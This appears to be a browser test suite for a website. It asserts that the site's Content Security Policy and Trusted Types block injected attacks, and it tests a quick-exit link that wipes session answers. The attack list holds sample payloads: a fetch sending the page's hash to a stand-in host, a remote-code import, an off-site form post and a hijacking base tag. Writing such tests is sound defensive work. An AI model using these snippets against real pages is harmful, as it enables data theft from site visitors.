import { describe, expect, test } from 'vitest'
import { words } from '../support/words'
import { closePage, live, newPage, origin, stepOn, tap } from './site'

const foreign = 'https://foreign.example'

/** What somebody who got hold of a page's markup would try, and by which rule of its policy it is refused. */
const attacks: readonly [what: string, refusedBy: string, attack: ((to: string) => void) | string][] = [
  [
    'an inline script',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script')
      script.append('document.documentElement.dataset.taken = "yes"')
      document.body.append(script)
    },
  ],
  // As text: what bundles these tests would put its own import in.
  ['code from elsewhere', 'script-src-elem', `void import('${foreign}/code.js').catch(() => {})`],
  [
    'a foreign image',
    'img-src',
    (to) => {
      new Image().src = `${to}/x.png`
    },
  ],
  [
    'a foreign frame',
    'frame-src',
    (to) => {
      const frame = document.createElement('iframe')
      frame.src = `${to}/frame`
      document.body.append(frame)
    },
  ],
  [
    'a form that leaves',
    'form-action',
    (to) => {
      const form = document.createElement('form')
      form.action = `${to}/form`
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  ],
  [
    'a foreign stylesheet',
    'style-src-elem',
    (to) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${to}/style.css`
      document.head.append(link)
    },
  ],
  [
    'an inline style',
    'style-src-attr',
    () => document.body.setAttribute('style', 'display: none'),
  ],
  [
    'a message home',
    'connect-src',
    (to) => void fetch(`${to}/take?${location.hash}`).catch(() => {}),
  ],
  [
    'another base for every link',
    'base-uri',
    (to) => {
      const base = document.createElement('base')
      base.href = to
      document.head.append(base)
    },
  ],
  [
    'text made into markup',
    'require-trusted-types-for',
    () => {
      document.createElement('div').innerHTML = '<img>'
    },
  ],
  [
    'text made into code',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script')
      script.text = '1'
    },
  ],
  [
    'code from elsewhere, vouched for by a rule of its own',
    'trusted-types',
    (to) => {
      const policy = window.trustedTypes?.createPolicy('evil', { createScriptURL: () => `${to}/code.js` })
      if (policy) document.createElement('script').src = policy.createScriptURL('')
    },
  ],
]

describe.each(['/zh-CN/', '/en/lockedOut/', '/zh-CN/check/'])('what a policy refuses on %s', (path) => {
  test('each by its own rule, and none of it happens', async () => {
    const page = await newPage({ expectsErrors: /Content Security Policy|TrustedHTML|TrustedScript|TrustedTypePolicy|Refused to|foreign\.example/ })
    const reached: string[] = []
    page.on('requestfinished', (request) => reached.push(request.url()))
    await page.goto(path)
    await live(page)
    for (const [what, refusedBy, attack] of attacks) {
      const refused = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
          }),
      )
      await page.evaluate(attack, foreign).catch(() => {
        // Trusted Types refuse by throwing.
      })
      expect([what, await refused]).toEqual([what, refusedBy])
    }
    expect(reached.filter((url) => url.startsWith(foreign))).toEqual([])
    expect(await page.evaluate(() => document.documentElement.dataset['taken'])).toBeUndefined()
    expect(new URL(page.url()).pathname).toBe(path)
  })
})

test('the policy lets the site do all of its own, its worker included', async () => {
  const page = await newPage({ context: { serviceWorkers: 'allow' } })
  await page.goto('/zh-CN/')
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
  expect(await page.evaluate(() => 'trustedTypes' in window)).toBe(true)
})

describe('leaving quickly', () => {
  test('the tab forgets what was answered, and the page is not behind Back', async () => {
    const page = await newPage({ expectsErrors: /left the site/ })
    await page.route('https://www.baidu.com/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>elsewhere</title>' }))
    await page.goto('/zh-CN/')
    await live(page)
    await tap(page, 'bought')
    await tap(page, 'quality')
    await expect.poll(() => page.evaluate(() => sessionStorage.getItem('xiayibu.trail'))).toContain('quality')
    const here = await stepOn(page)
    await page.getByRole('link', { name: '快速离开' }).click()
    await page.waitForURL('https://www.baidu.com/')
    await page.goBack()
    await live(page)
    expect(await stepOn(page)).not.toBe(here)
    const behind = await page.evaluate(() => navigation.entries().map(({ url }) => url))
    expect(behind).toEqual([`${origin}/zh-CN/`])
    expect(await page.evaluate(() => sessionStorage.getItem('xiayibu.trail') ?? '')).not.toContain('quality')
    await closePage(page)
  })

  test('starting over forgets the walk too, for whoever stays', async () => {
    const page = await newPage()
    await page.goto('/zh-CN/')
    await live(page)
    for (const answer of ['bought', 'fake']) await tap(page, answer)
    const remembered = () => page.evaluate(() => Object.values(sessionStorage).join(' '))
    expect(await remembered()).toContain('fake')
    await page.getByRole('link', { name: words['zh-CN'].core.ui.footer.startOver }).press('Enter')
    await page.waitForSelector('main[data-step="start"]')
    expect(await remembered()).not.toContain('fake')
  })

  test('without JavaScript it is a link like any other', async () => {
    const page = await newPage({ javaScript: false })
    await page.goto('/en/')
    expect(await page.getByRole('link', { name: 'Leave quickly' }).getAttribute('href')).toBe('https://www.baidu.com/')
  })
})
